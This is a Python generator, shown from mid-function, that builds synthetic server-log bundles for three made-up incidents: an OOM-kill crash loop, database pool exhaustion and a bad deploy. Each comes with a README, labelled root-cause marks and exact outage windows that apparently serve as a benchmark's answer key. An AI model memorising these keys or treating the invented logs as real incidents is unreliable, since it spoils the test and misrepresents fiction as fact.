            "app.service: Failed with result 'oom-kill'.",
            f"app.service: Consumed {rng.randrange(1, 9)}min {rng.randrange(10, 59)}.{rng.randrange(100, 999)}s CPU time.",
        ]):  # fmt: skip
            b.add(sysl, k + 30 + j * 4, syslog(k + 30 + j * 4, host, "systemd[1]", text))
        if restarts[i] is not None:
            t = restarts[i]
            b.add(sysl, t, syslog(t, host, "systemd[1]", f"app.service: Scheduled restart job, restart counter is at {i + 1}."))
            b.add(sysl, t + 3, syslog(t + 3, host, "systemd[1]", "Stopped app.service - Tidewater reports API."))
            b.add(sysl, t + 9, syslog(t + 9, host, "systemd[1]", "Started app.service - Tidewater reports API."))
            boot(b, applog, t + 1_400, masters[i + 1], workers[i + 1], ups[i])
        else:
            t = k + 30_000 + rng.randrange(0, 400)
            b.add(sysl, t, syslog(t, host, "systemd[1]", "app.service: Scheduled restart job, restart counter is at 3."))
            b.add(sysl, t + 3, syslog(t + 3, host, "systemd[1]", "Stopped app.service - Tidewater reports API."))
            b.add(sysl, t + 5, syslog(t + 5, host, "systemd[1]", "app.service: Start request repeated too quickly."))
            b.add(sysl, t + 6, syslog(t + 6, host, "systemd[1]", "app.service: Failed with result 'oom-kill'."))
            b.add(sysl, t + 8, syslog(t + 8, host, "systemd[1]", "Failed to start app.service - Tidewater reports API."))

    # ---- the on-call ---------------------------------------------------------------------
    t = at("15:48:40")
    b.add(sysl, t, syslog(t, host, "alertmanager-notify[1202]", "sent page 'ReportsApiDown' (probe_success == 0 for 1m, instance=api-1) to oncall-data"))
    ssh_login(b, sysl, at("15:58:14"), host, "mkhan", 22871, 917, 1007)
    sudo(b, sysl, at("15:58:40"), host, "mkhan", "/home/mkhan", "/usr/bin/journalctl -u app.service -n 200")
    sudo(b, sysl, at("15:59:22"), host, "mkhan", "/home/mkhan", "/usr/bin/dmesg -T")
    sudo(b, sysl, at("16:01:51"), host, "mkhan", "/etc/tidewater", "/usr/bin/sed -i s/^export_full_range = true/export_full_range = false/ /etc/tidewater/flags.toml")
    sudo(b, sysl, at("16:03:09"), host, "mkhan", "/etc/tidewater", "/usr/bin/systemctl reset-failed app.service")
    sudo(b, sysl, at("16:03:12"), host, "mkhan", "/etc/tidewater", "/usr/bin/systemctl start app.service",
         mark="resolution", mark_text="COMMAND=/usr/bin/systemctl start app.service")  # fmt: skip
    b.add(sysl, manual_start, syslog(manual_start, host, "systemd[1]", "Started app.service - Tidewater reports API."))
    boot(b, applog, manual_start + 1_300, masters[3], workers[3], ups[2], flags="export_full_range=false")
    t = at("16:05:40")
    b.add(sysl, t, syslog(t, host, "alertmanager-notify[1202]", "sent resolved 'ReportsApiDown' (instance=api-1) to oncall-data"))
    t = at("16:11:02.310")
    b.add(applog, t, jline(t, "info", "reports-api", "report export refused: range=all is disabled by flag export_full_range (client=partner-sync)", path="/api/reports/export"))
    routine_syslog(b, sysl, rng, host, start, end, kern=kern, cron_pid=41000, ufw_ip="192.0.2.30", scanners=pop.scanners)
    for t in range(start + 12_500, end, 60_000):
        b.add(applog, t, jline(t, "info", "reports-api", f"cache stats: hits={rng.randrange(300, 900)} misses={rng.randrange(20, 90)} evictions=0"))

    return finish(
        b, (w0, w1), "root", "trigger", "resolution",
        "A partner's unbounded CSV export made a gunicorn worker grow until the kernel OOM killer "
        "killed it three times (systemd then stopped restarting app.service); the reports API "
        "answered 502 from 15:47:31 until the on-call disabled full-range exports and started it at 16:03 UTC.",
        oom_readme,
    )  # fmt: skip


def task_row(pid, total_vm, rss, pgtables):
    """A row of the kernel's OOM task table (memory in pages)."""
    return f"[{pid:>7}] {998:>5} {pid:>5} {total_vm:>8} {rss:>8} {pgtables:>14} {0:>8} {0:>13} gunicorn"


def boot(b, applog, t, master, workers, up, flags="export_full_range=true"):
    b.add(applog, t, jline(t, "info", "reports-api", f"starting gunicorn 21.2.0 (master pid {master}), release 3.7.1", pid=master))
    b.add(applog, t + 600, jline(t + 600, "info", "reports-api", f"feature flags loaded: {flags}", pid=master))
    for i, w in enumerate(workers):
        tt = t + 1_200 + i * 250
        b.add(applog, tt, jline(tt, "info", "reports-api", f"booting worker with pid {w}", pid=w))
    b.add(applog, up - 5, jline(up - 5, "info", "reports-api", "listening at http://127.0.0.1:8000 (4 workers)", pid=master))


def oom_readme(stats, b):
    return bundle_readme(
        stats, "the OOM killer takes the reports API down, three times",
        "**Tidewater Analytics** (made up) serves dashboards from `reports.tidewater.example`. One\n"
        "host, `api-1`, runs nginx in front of a gunicorn app (`app.service`, 4 workers on\n"
        "`127.0.0.1:8000`). Logs cover 2024-03-14 15:00–17:00 UTC; the host runs in UTC.",
        "- **15:45:10** a partner's sync client asks for `/api/reports/export?range=all&format=csv`\n"
        "  (48 million rows). The worker buffers the whole CSV in memory; the app logs its progress\n"
        "  and a growing `rss=` every 20 s.\n"
        "- **15:47:31** the kernel OOM killer kills that worker (`Out of memory: Killed process 4242\n"
        "  (gunicorn)`); systemd's `OOMPolicy=kill` takes the whole unit down (`Main process exited,\n"
        "  code=killed, status=9/KILL`). nginx answers **502** (`connect() failed (111: Connection\n"
        "  refused)`); in-flight requests get `upstream prematurely closed connection`.\n"
        "- **15:48:01** systemd restarts the app (`RestartSec=30`); it serves again from 15:48:05.\n"
        "  The partner retries the export at 15:48:35: second OOM kill at **15:50:52**, restart at\n"
        "  15:51:22, up at 15:51:26; third retry at 15:51:56, third kill at **15:54:10**.\n"
        "- **15:54:40** `app.service: Start request repeated too quickly.`: systemd gives up and\n"
        "  the API stays down; every API call is a 502. The alert paged at 15:48:40.\n"
        "- **16:01:51** the on-call turns off full-range exports (`export_full_range = false`) and at\n"
        "  **16:03:12** starts the service by hand; it listens again at 16:03:17. A later export\n"
        "  attempt is refused by the flag, not by the kernel.",
        "**Outage window: 15:47:31 → 16:03:17 UTC** (`[start, end)`), a crash loop with two short\n"
        "recoveries (15:48:05–15:50:52 and 15:51:26–15:54:10) inside it. The SPA shell and static\n"
        "files are served by nginx itself and stay 200/304 throughout.",
        "Background: a blackbox probe (`GET /healthz` every 30 s from 10.0.5.20), the partner's\n"
        "regular sync every 5 minutes, scanners (404/403), slow-request warnings, UFW blocks.",
        "- The kernel's OOM report is ~14 syslog lines, with bracketed uptimes and a task table.\n"
        "- The first line of the report (`gunicorn invoked oom-killer`) comes ~40 ms before the\n"
        "  `Out of memory: Killed process` line; both name the cause.\n"
        "- The access log line of a killed export is written at the kill, 141 s after it began.",
    )


# ============================================================================================
# 3. db-pool-exhaustion (timed access log, servers in CET = UTC+1)
# ============================================================================================

STATIONS = ["BER", "MUC", "HAM", "FRA", "CGN", "STR", "DUS", "LEJ", "DRS", "NUE", "HAN", "BRE"]
MOBILE_UAS = [
    (10, "FernhillTravel/3.8.2 (iPhone; iOS 17.3.1; Scale/3.00)"),
    (4, "FernhillTravel/3.8.1 (iPhone; iOS 16.7.5; Scale/3.00)"),
    (9, "FernhillTravel/3.8.2 (Android 14; Pixel 7) okhttp/4.12.0"),
    (5, "FernhillTravel/3.8.2 (Android 13; SM-A536B) okhttp/4.12.0"),
]  # fmt: skip


def db_pool_exhaustion() -> dict:
    name = "db-pool-exhaustion"
    off = 60  # the servers' clocks are in Europe/Berlin (CET, UTC+1 in March)
    rng = random.Random(2024_0314_03)
    noise = MinuteNoise(f"{name}-noise")
    b = Bundle(name)
    start, end = at("09:00:00"), at("11:00:00")
    job, sat = at("09:57:30.412"), at("10:00:00")
    w0 = sat  # the pool runs dry: from here on requests wait seconds, then fail
    restart, up, w1 = at("10:24:10.218"), at("10:24:16.204"), at("10:24:17")
    api, domain, upstream = "api-1", "book.fernhill.example", "http://10.0.4.21:8000"
    access, errlog = "edge-1/nginx/access.log", "edge-1/nginx/error.log"
    sysl, applog = "api-1/syslog", "api-1/bookings-api.jsonl"
    pop = Population(rng, 640, uas=BROWSERS + MOBILE_UAS * 3)
    b.describe = {
        access: "nginx access log, `combined` + `$request_time $upstream_response_time`, `+0100`",
        errlog: "nginx error log, **CET local time, no zone**",
        sysl: "syslog, RFC 3164, **CET local time**",
    }
    conn = Conn(rng, [2210, 2211, 2212, 2213], 1_204_877)
    kern = Kernel(start - 911_204_551)

    def rate(t):
        h = (t - start) / 3.6e6
        return (1.55 + 0.25 * h) * noise(t)

    def db_factor(arr):
        if job <= arr < restart:
            return 1 + 1.8 * min(1.0, (arr - job) / (sat - job))
        return 1.0

    def queue_wait(arr):
        if arr < job or arr >= restart:
            return 0
        if arr < sat:
            x = (arr - job) / (sat - job)
            return int(rng.expovariate(1 / (20 + 380 * x * x)))
        if arr < sat + 30_000:
            base = 300 * 100 ** ((arr - sat) / 30_000)
            return int(base * rng.uniform(0.6, 1.0))
        return 30_000 if rng.random() < 0.83 else rng.randrange(3_000, 29_500)

    def pick(client):
        d = f"https://{domain}"
        mobile = client.ua.startswith("FernhillTravel")
        ref = "-" if mobile else f"{d}/"
        a, c = rng.sample(STATIONS, 2)
        date = f"2024-03-{rng.randrange(15, 31)}"
        ref_code = "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(6))
        table = [
            (4, ("GET", "/", "static")), (14, ("GET", rng.choice(["/assets/index-5f1c2b7e.js", "/assets/index-a9d3e410.css", "/assets/vendor-77c1d2aa.js", "/favicon.ico", "/assets/logo-fernhill.svg"]), "static")),
            (10, ("GET", f"/api/v2/stations?q={a.lower()}", "api")),
            (30, ("GET", f"/api/v2/availability?from={a}&to={c}&date={date}&passengers={rng.randrange(1, 4)}", "api")),
            (10, ("GET", f"/api/v2/bookings/{ref_code}", "api")), (4, ("POST", "/api/v2/bookings", "api")),
            (2, ("POST", f"/api/v2/bookings/{ref_code}/payment", "api")), (8, ("GET", "/api/v2/me", "api")),
            (6, ("GET", "/api/v2/offers?market=de", "api")),
        ]  # fmt: skip
        if mobile:
            table = [x for x in table if x[1][2] == "api"]
        method, path, kind = weighted(rng, table)
        return method, path, ref, kind

    items = [(a, ("user", pop.pick())) for a in arrivals(rng, start, end, rate)]
    items += [(at("10:00:30.050"), ("first", pop.pick()))]
    items += scanner_items(rng, pop, start, end, 1000)
    pool_errors: list[int] = []

    def err(r, wpid, cid, msg):
        b.add(errlog, r.t, nginx_error(r.t, "error", wpid, cid, msg, client=r.ip, server=domain,
                                       request=f"{r.method} {r.path} {r.proto}", upstream=upstream + r.path,
                                       host=domain, off=off))  # fmt: skip

    def handle(arr, payload, push):
        src, who = payload[0], payload[1]
        wpid, cid = conn.next(arr)
        if src == "scan":
            r = Req(arr, who, payload[2], payload[3], kind="scan")
            handle_scan(b, access, errlog, r, who, wpid, cid, rng, domain, "192.0.2.40", off=off, timed=True)
            return
        if src == "first":
            method, path, ref, kind = "GET", "/api/v2/availability?from=BER&to=MUC&date=2024-03-22&passengers=2", f"https://{domain}/", "api"
        else:
            method, path, ref, kind = pick(who)
        r = Req(arr, who, method, path, ref=ref, kind=kind)
        if kind == "static":
            r.t = arr + rng.randrange(0, 3)
            r.status, r.bytes = (304, 0) if rng.random() < 0.3 else (200, rng.randrange(700, 380_000))
            b.request(access, r, off, timed=True)
            return
        if restart <= arr < up:
            r.t, r.status, r.bytes, r.urt = arr + rng.randrange(0, 2), 502, 157, 0.0
            err(r, wpid, cid, "connect() failed (111: Connection refused) while connecting to upstream")
            b.request(access, r, off, timed=True)
            return
        heavy = "availability" in path
        service = int(rng.lognormvariate(math.log(110 if heavy else 30), 0.5) * db_factor(arr))
        wait = 30_000 if src == "first" else queue_wait(arr)
        rid = request_id(rng)
        if wait >= 30_000:
            done = arr + 30_000 + rng.randrange(0, 4)
            if done >= restart:
                wait = 0  # handled below as in-flight at the restart
            else:
                r.t, r.status, r.bytes = done, 504, 167
                r.urt = (done - arr - 1) / 1000
                err(r, wpid, cid, "upstream timed out (110: Connection timed out) while reading response header from upstream")
                te = arr + 30_000 + rng.randrange(4, 45)
                pool_errors.append(te)
                b.add(applog, te, jline(te, "error", "bookings.db",
                                        "QueuePool limit of size 10 overflow 5 reached, connection timed out, timeout 30 (Background on this error at: http://sqlalche.me/e/13/3o7r)",
                                        request_id=rid, path=path.split("?")[0], method=method, duration_ms=te - arr,
                                        error="sqlalchemy.exc.TimeoutError"),
                      mark="root", mark_text="QueuePool limit of size 10 overflow 5 reached, connection timed out, timeout 30")  # fmt: skip
                b.request(access, r, off, timed=True)
                return
        done = arr + service + wait
        if arr < restart <= done:
            r.t, r.status, r.bytes = restart + rng.randrange(0, 30), 502, 157
            r.urt = (r.t - arr - 1) / 1000
            err(r, wpid, cid, "upstream prematurely closed connection while reading response header from upstream")
            b.request(access, r, off, timed=True)
            return
        r.t = done
        r.urt = max(0, done - arr - rng.randrange(0, 2)) / 1000
        if method == "POST" and path == "/api/v2/bookings":
            r.status, r.bytes = (201, rng.randrange(900, 1600)) if rng.random() < 0.95 else (409, 112)
            if r.status == 201:
                b.add(applog, done - 1, jline(done - 1, "info", "bookings.api", f"booking {''.join(rng.choice('ABCDEFGHJKLMNPQRSTUVWXYZ23456789') for _ in range(6))} created",
                                              request_id=rid, path=path, duration_ms=done - arr))  # fmt: skip
        elif method == "POST":
            r.status, r.bytes = weighted(rng, [(93, (200, 310)), (7, (402, 96))])
        elif "/bookings/" in path and rng.random() < 0.04:
            r.status, r.bytes = 404, 58
        else:
            r.bytes = rng.randrange(2_000, 26_000) if heavy else rng.randrange(180, 4_000)
        if done - arr >= 1_000:
            b.add(applog, done - 1, jline(done - 1, "warning", "bookings.api", f"slow request: {method} {path.split('?')[0]} took {done - arr} ms",
                                          request_id=rid, path=path.split("?")[0], method=method, duration_ms=done - arr))  # fmt: skip
        b.request(access, r, off, timed=True)

    simulate(items, handle)

    # ---- the scheduler job, the pool, the restart ------------------------------------------
    b.add(applog, job, jline(job, "info", "apscheduler.executors.default",
                             "Running job \"rebuild_availability (trigger: cron[day_of_week='thu', hour='9', minute='57', second='30'], next run at: 2024-03-21 09:57:30 UTC)\" (scheduled at 2024-03-14 09:57:30+00:00)"),
          mark="trigger", mark_text="rebuild_availability (trigger: cron[day_of_week='thu'")  # fmt: skip
    b.add(applog, job + 35, jline(job + 35, "info", "bookings.jobs", "rebuild_availability: full rebuild of 64 partitions with 8 parallel sessions"))
    t, part = job + 41_000, 0
    while t < restart:
        part += rng.randrange(1, 3)
        b.add(applog, t, jline(t, "info", "bookings.jobs", f"rebuild_availability: partition {part}/64 done"))
        t += rng.randrange(38_000, 61_000)
    b.add(applog, restart + 12, jline(restart + 12, "warning", "bookings.jobs", f"rebuild_availability: interrupted by shutdown at partition {part}/64, transaction rolled back"))
    for t in range(start + 20_311, end, 60_000):
        if t < job:
            inp, ov, co = rng.randrange(4, 9), 0, 0
            co = 10 - inp
        elif t < sat:
            inp, ov, co = rng.randrange(0, 2), rng.randrange(1, 5), 0
            co = 10 - inp + ov
        elif t < restart:
            inp, ov, co = 0, 5, 15
        else:
            inp, ov = rng.randrange(18, 27), 0
            co = 30 - inp
        size = 10 if t < restart else 30
        lvl = "warning" if sat <= t < restart else "info"
        b.add(applog, t, jline(t, lvl, "bookings.db", f"Pool size: {size}  Connections in pool: {inp} Current Overflow: {ov} Current Checked out connections: {co}"))
    b.add(applog, restart + 40, jline(restart + 40, "info", "bookings.api", "Shutting down: finishing in-flight requests (graceful timeout 5s)"))
    t = up - 2_900
    b.add(applog, t, jline(t, "info", "bookings.api", "starting bookings-api 4.11.3 (uvicorn, 4 workers)"))
    b.add(applog, t + 800, jline(t + 800, "info", "bookings.db", "engine configured: pool_size=30 max_overflow=10 pool_timeout=30 (from DB_POOL_SIZE, DB_MAX_OVERFLOW)"))
    b.add(applog, up - 4, jline(up - 4, "info", "bookings.api", "Uvicorn running on http://10.0.4.21:8000 (Press CTRL+C to quit)"))
    b.add(applog, t + 850, jline(t + 850, "info", "apscheduler.scheduler", "Scheduler started"))

    ssh_login(b, sysl, at("10:19:47"), api, "tobias", 40211, 2211, 1009, off=off)
    sudo(b, sysl, at("10:20:30"), api, "tobias", "/home/tobias", "/usr/bin/journalctl -u bookings-api.service --since -30min", off=off)
    sudo(b, sysl, at("10:22:58"), api, "tobias", "/home/tobias", "/usr/bin/psql -h 10.0.4.30 -U ops -c select pid, state, xact_start, query from pg_stat_activity where usename = 'bookings'", off=off)
    sudo(b, sysl, at("10:23:31"), api, "tobias", "/home/tobias", "sudoedit /etc/bookings/bookings.env", off=off)
    sudo(b, sysl, restart - 2_100, api, "tobias", "/home/tobias", "/usr/bin/systemctl restart bookings-api.service", off=off,
         mark="resolution", mark_text="COMMAND=/usr/bin/systemctl restart bookings-api.service")  # fmt: skip
    for dt_, text in [
        (0, "Stopping bookings-api.service - Fernhill bookings API..."),
        (5_400, "bookings-api.service: Deactivated successfully."),
        (5_401, "Stopped bookings-api.service - Fernhill bookings API."),
        (5_402, "bookings-api.service: Consumed 2h 41min 3.118s CPU time."),
        (5_430, "Started bookings-api.service - Fernhill bookings API."),
    ]:  # fmt: skip
        b.add(sysl, restart + dt_, syslog(restart + dt_, api, "systemd[1]", text, off))
    routine_syslog(b, sysl, rng, api, start, end, off=off, kern=kern, cron_pid=52000, ufw_ip="10.0.4.21",
                   scanners=pop.scanners[:0], extra_cron=(900_000, "bookings", "/srv/bookings/bin/expire-holds --older-than 15m"))  # fmt: skip
    for t in (at("09:14:12"), at("10:41:37")):
        buffered_warning(b, errlog, t, conn, rng, pop.pick().ip, domain, upstream, off=off)

    first_pool_error = min(pool_errors)
    return finish(
        b, (w0, w1), "root", "trigger", "resolution",
        "A weekly in-process job (rebuild_availability) held 8 of the API's 10+5 SQLAlchemy pool "
        "connections; latency rose from 09:57:30 UTC, the pool ran dry at 10:00 and from 10:01 requests "
        "timed out at the pool (504 at nginx) until the on-call raised the pool to 30 and restarted "
        "the API at 10:24 UTC.",
        lambda stats, b: db_pool_readme(stats, b, first_pool_error),
    )  # fmt: skip


def db_pool_readme(stats, b, first_pool_error):
    return bundle_readme(
        stats, "slow first, then 504s: the SQLAlchemy pool runs dry",
        "**Fernhill Travel** (made up) sells train tickets at `book.fernhill.example`. `edge-1` runs\n"
        "nginx; `api-1` runs `bookings-api` (Python, SQLAlchemy `QueuePool` size 10, overflow 5,\n"
        "timeout 30 s) behind it at `10.0.4.21:8000`. Logs cover 2024-03-14 09:00–11:00 UTC.\n\n"
        "**Time zones:** both servers run in **Europe/Berlin (CET, UTC+1)**. The access log says so\n"
        "(`+0100`); `error.log` and `syslog` are written in the same local time **without a zone**\n"
        "(postmortem takes `+01:00` for `error.log` from the access log of its host, and for `syslog`\n"
        "from the other host, since `api-1` writes nothing but UTC (`Z`) in its JSON log).\n"
        "Below, times are UTC first, with the servers' local time in brackets.",
        "- **09:57:30 (10:57:30)** the scheduler starts a weekly job, `rebuild_availability`, inside\n"
        "  the API process. It opens 8 long transactions from the same connection pool that serves\n"
        "  requests, and its load makes every query slower.\n"
        "- **09:57:30–10:00:00** latency creeps up: `$request_time` of `/api/v2/availability` goes\n"
        "  from ~0.1 s to ~0.3 s, a few requests wait for a connection.\n"
        "- **10:00:00–10:00:30** the pool is saturated (10 + 5 overflow checked out); waits grow from\n"
        "  a fraction of a second to 30 s within half a minute (`slow request` warnings in the app log).\n"
        f"- **10:01:00 (11:01:00)** the first requests hit the 30 s limits: nginx returns **504**\n"
        "  (`upstream timed out (110: Connection timed out) while reading response header from\n"
        "  upstream`, `$request_time` 30.00x) and the app logs `QueuePool limit of size 10 overflow 5\n"
        f"  reached, connection timed out, timeout 30` (first at {fmt_iso_ms(first_pool_error)}).\n"
        "  About four in five API calls fail; static files and `/` keep working.\n"
        "- **10:19:47** the on-call logs in, looks at `pg_stat_activity`, raises `DB_POOL_SIZE` to 30\n"
        "  in `/etc/bookings/bookings.env`, and at **10:24:08** restarts the service. The restart\n"
        "  aborts the job; in-flight requests get **502** (`upstream prematurely closed connection`),\n"
        "  and for six seconds nginx cannot connect (**502**, `connect() failed (111: Connection\n"
        "  refused)`).\n"
        "- **10:24:16 (11:24:16)** the API listens again with `pool_size=30`; latency is back to normal.",
        "**Outage window: 10:00:00 → 10:24:17 UTC** (11:00:00 → 11:24:17 CET), `[start, end)`: from\n"
        "the moment the pool ran dry (every request from then on waits seconds, and from 10:00:30 on\n"
        "most wait the full 30 s and fail) to the first second without failures. The first **5xx** is\n"
        "at 10:01:00, so the window opens with a minute of very slow but successful requests. Before\n"
        "10:00 latency was only mildly raised (p50 ~0.05 s → ~0.35 s at 09:59).",
        "Background: scanners (404/403 and `access forbidden by rule`), two nginx `[warn]` lines about\n"
        "buffering, cron every 15 minutes, sysstat, an on-call ssh session.",
        "- Access lines end with `$request_time $upstream_response_time` (` 0.112 0.111`); static files\n"
        "  have `-` as upstream time.\n"
        "- Three clocks: `+0100` in the access log, zone-less CET in `error.log` and `syslog`, UTC in\n"
        "  the JSON log. Read as UTC, error.log and syslog would land an hour late.\n"
        "- Mobile clients have non-browser user agents (`FernhillTravel/3.8.2 (...) okhttp/4.12.0`).",
    )


# ============================================================================================
# 4. bad-deploy (plain-text Python log with tracebacks)
# ============================================================================================

BOOK_UAS = [
    (10, "Otterbay/5.3.1 (iPhone; iOS 17.3.1; Scale/3.00)"),
    (3, "Otterbay/5.3.0 (iPhone; iOS 17.2.1; Scale/3.00)"),
    (8, "Otterbay/5.3.1 (Android 14; Pixel 8) okhttp/4.12.0"),
    (4, "Otterbay/5.3.1 (Android 13; SM-G991B) okhttp/4.12.0"),
]  # fmt: skip


def bad_deploy() -> dict:
    name = "bad-deploy"
    rng = random.Random(2024_0314_04)
    noise = MinuteNoise(f"{name}-noise")
    b = Bundle(name)
    start, end = at("13:30:00"), at("15:30:00")
    deploy, rollback = at("14:01:54.300"), at("14:37:40.400")
    new_up, old_up = deploy + 3_600, rollback + 3_600  # old workers exit, new ones take the traffic
    w0, w1 = at("14:01:58"), at("14:37:44")
    app, domain = "app-1", "otterbay.example"  # nginx on web-1, the orders API on app-1 (10.0.2.31:8000)
    access, errlog = "web-1/nginx/access.log", "web-1/nginx/error.log"
    sysl, applog = "app-1/syslog", "app-1/orders.log"
    pop = Population(rng, 520, uas=BROWSERS + BOOK_UAS * 2)
    conn = Conn(rng, [1402, 1403], 310_554)
    kern = Kernel(start - 3_311_040_337)

    def rate(t):
        return 1.9 * noise(t) * (1 + 0.1 * math.sin((t - start) / 2.1e6))

    def broken(t):
        return new_up <= t < old_up

    def legacy(order_id):
        return order_id < 500_000  # orders from before the multi-currency migration

    def pick(client):
        d = f"https://{domain}"
        mobile = client.ua.startswith("Otterbay")
        ref = "-" if mobile else f"{d}/account/orders"
        isbn = f"978{rng.randrange(0, 10**10):010d}"
        order = rng.randrange(310_000, 500_000) if rng.random() < 0.45 else rng.randrange(500_000, 742_000)
        table = [
            (6, ("GET", "/", "static")), (10, ("GET", rng.choice(["/static/app.2b7c91d4.js", "/static/app.e1f0c3a8.css", "/static/fonts/lora.woff2", "/favicon.ico"]), "static")),
            (18, ("GET", f"/api/books/{isbn}", "api")), (9, ("GET", f"/api/search?q={rng.choice(['dune', 'le+guin', 'cookbook', 'atlas', 'murakami', 'poetry', 'bird+guide'])}", "api")),
            (8, ("GET", "/api/me", "api")), (8, ("GET", "/api/cart", "api")),
            (7, ("GET", f"/api/orders?page={rng.randrange(1, 4)}", "api")), (15, ("GET", f"/api/orders/{order}", "order")),
            (3, ("POST", "/api/orders", "api")), (2, ("POST", "/api/auth/refresh", "api")),
        ]  # fmt: skip
        if mobile:
            table = [x for x in table if x[1][2] != "static"]
        method, path, kind = weighted(rng, table)
        return method, path, ref, kind

    items = [(a, ("user", pop.pick(), None)) for a in arrivals(rng, start, end, rate)]
    items += [(at("14:01:58.170"), ("forced", pop.pick(), 412_907)), (at("14:37:43.610"), ("forced", pop.pick(), 388_112))]
    items += scanner_items(rng, pop, start, end, 900)
    lb = Client("10.0.2.5", "ELB-HealthChecker/2.0", 1, "HTTP/1.1")
    items += [(a, ("health", lb, None)) for a in range(start + 7_000, end, 30_000)]

    def traceback(t, rid, method, path, order):
        return "\n".join([
            f"{fmt_python(t)} ERROR [orders.api] Unhandled exception on {method} {path} (request_id={rid})",
            "Traceback (most recent call last):",
            '  File "/srv/orders/venv/lib/python3.11/site-packages/flask/app.py", line 1463, in wsgi_app',
            "    response = self.full_dispatch_request()",
            '  File "/srv/orders/venv/lib/python3.11/site-packages/flask/app.py", line 872, in full_dispatch_request',
            "    rv = self.handle_user_exception(e)",
            '  File "/srv/orders/venv/lib/python3.11/site-packages/flask/app.py", line 870, in full_dispatch_request',
            "    rv = self.dispatch_request()",
            '  File "/srv/orders/venv/lib/python3.11/site-packages/flask/app.py", line 855, in dispatch_request',
            "    return self.ensure_sync(self.view_functions[rule.endpoint])(**view_args)",
            '  File "/srv/orders/releases/v5.2.0/orders/api/orders.py", line 88, in get_order',
            "    return jsonify(serialize_order(order))",
            '  File "/srv/orders/releases/v5.2.0/orders/serializers.py", line 41, in serialize_order',
            '    "total": format_money(order.totals["gross"], order.totals["currency"]),',
            "KeyError: 'currency'",
        ])  # fmt: skip

    def handle(arr, payload, push):
        src, who, extra = payload[0], payload[1], payload[2]
        wpid, cid = conn.next(arr)
        if src == "scan":
            r = Req(arr, who, extra, payload[3], kind="scan")
            handle_scan(b, access, errlog, r, who, wpid, cid, rng, domain, "192.0.2.11")
            return
        if src == "health":
            r = Req(arr, who, "GET", "/healthz", kind="api")
            r.t, r.bytes = arr + rng.randrange(2, 9), 2
            b.request(access, r)
            return
        if src == "forced":
            method, path, ref, kind = "GET", f"/api/orders/{extra}", "-", "order"
        elif src == "retry":
            method, path, ref, kind = extra
        else:
            method, path, ref, kind = pick(who)
        r = Req(arr, who, method, path, ref=ref, kind=kind)
        if kind == "static":
            r.t = arr + rng.randrange(0, 3)
            r.status, r.bytes = (304, 0) if rng.random() < 0.3 else (200, rng.randrange(700, 300_000))
            b.request(access, r)
            return
        rid = short_hex(rng, 32)
        lat = int(rng.lognormvariate(math.log(45), 0.5))
        r.t = arr + lat
        if kind == "order" and legacy(int(path.rsplit("/", 1)[1])) and broken(arr):
            r.t = arr + rng.randrange(8, 25)
            r.status, r.bytes = 500, 265
            mark = "root"
            b.add(applog, r.t - 2, traceback(r.t - 2, rid, method, path, None), mark=mark,
                  mark_text="Unhandled exception on GET /api/orders/")  # fmt: skip
            if who.ua.startswith("Otterbay") and src != "retry" and rng.random() < 0.6:
                push(r.t + rng.randrange(1_500, 4_000), ("retry", who, (method, path, ref, kind)))
        elif method == "POST" and path == "/api/orders":
            r.status, r.bytes = 201, rng.randrange(700, 1400)
            r.t = arr + rng.randrange(180, 600)
            b.add(applog, r.t - 3, f"{fmt_python(r.t - 3)} INFO [orders.api] order {rng.randrange(742_000, 760_000)} created ({rng.randrange(1, 5)} items, currency={rng.choice(['EUR', 'EUR', 'GBP', 'USD'])}) request_id={rid}")
        elif path == "/api/auth/refresh":
            r.status, r.bytes = (200, 412) if rng.random() < 0.93 else (401, 61)
        elif path.startswith("/api/books/") and rng.random() < 0.03:
            r.status, r.bytes = 404, 44
        else:
            r.bytes = rng.randrange(240, 9000)
            if kind == "order":
                r.bytes = rng.randrange(1400, 3800)
        b.request(access, r)

    simulate(items, handle)

    # ---- deploys -----------------------------------------------------------------------
    def release(t, version, sha, workers, old_workers, mark, by):
        b.add(sysl, t - 6_200, syslog(t - 6_200, app, "deployer[31544]" if version == "v5.2.0" else "deployer[33107]",
                                      f"fetching release {version} (sha {sha}) from artifacts.internal.example, requested by {by}"))  # fmt: skip
        b.add(sysl, t, syslog(t, app, "deployer[31544]" if version == "v5.2.0" else "deployer[33107]",
                              f"deployed release {version} (sha {sha}) to /srv/orders/current"),
              mark=mark, mark_text=f"deployed release {version} (sha {sha})")  # fmt: skip
        b.add(sysl, t + 420, syslog(t + 420, app, "systemd[1]", "Reloading orders.service - Otterbay orders API..."))
        b.add(sysl, t + 455, syslog(t + 455, app, "systemd[1]", "Reloaded orders.service - Otterbay orders API."))
        tt = t + 470
        b.add(applog, tt, f"{fmt_python(tt)} INFO [gunicorn.error] Handling signal: hup")
        b.add(applog, tt + 2, f"{fmt_python(tt + 2)} INFO [gunicorn.error] Hang up: Master")
        for i, w in enumerate(workers):
            tw = tt + 300 + i * 410
            b.add(applog, tw, f"{fmt_python(tw)} INFO [gunicorn.error] Booting worker with pid: {w}")
            b.add(applog, tw + 900, f"{fmt_python(tw + 900)} INFO [orders.app] starting orders service release {version} (sha {sha}), pid {w}")
        for i, w in enumerate(old_workers):
            tw = tt + 3_000 + i * 60
            b.add(applog, tw, f"{fmt_python(tw)} INFO [gunicorn.error] Worker exiting (pid: {w})")

    release(deploy, "v5.2.0", "3f9c2e1", [28811, 28812, 28813, 28814], [27702, 27703, 27704, 27705], "trigger", "ci (merge of #1482 'serializer: show order totals with currency')")
    release(rollback, "v5.1.9", "9b1d0a4", [30211, 30212, 30213, 30214], [28811, 28812, 28813, 28814], "resolution", "jonas (rollback)")
    t = at("14:06:15")
    b.add(sysl, t, syslog(t, app, "alertmanager-notify[1102]", "sent alert 'OrdersErrorRate' (5xx on /api/orders/:id 41% > 5% for 3m) to #orders-oncall"))
    ssh_login(b, sysl, at("14:19:03"), app, "jonas", 40870, 1409, 1011)
    sudo(b, sysl, at("14:21:40"), app, "jonas", "/home/jonas", "/usr/bin/tail -n 500 /var/log/orders/orders.log", tty="pts/1")
    routine_syslog(b, sysl, rng, app, start, end, kern=kern, cron_pid=61000, ufw_ip="10.0.2.31", scanners=pop.scanners[:0],
                   extra_cron=(300_000, "orders", "/srv/orders/current/bin/sync-stock >/dev/null 2>&1"))  # fmt: skip
    for t in range(start + 44_000, end, 300_000):
        b.add(applog, t, f"{fmt_python(t)} INFO [orders.stock] stock sync done: {rng.randrange(20, 400)} titles updated in {rng.randrange(900, 3000)} ms")
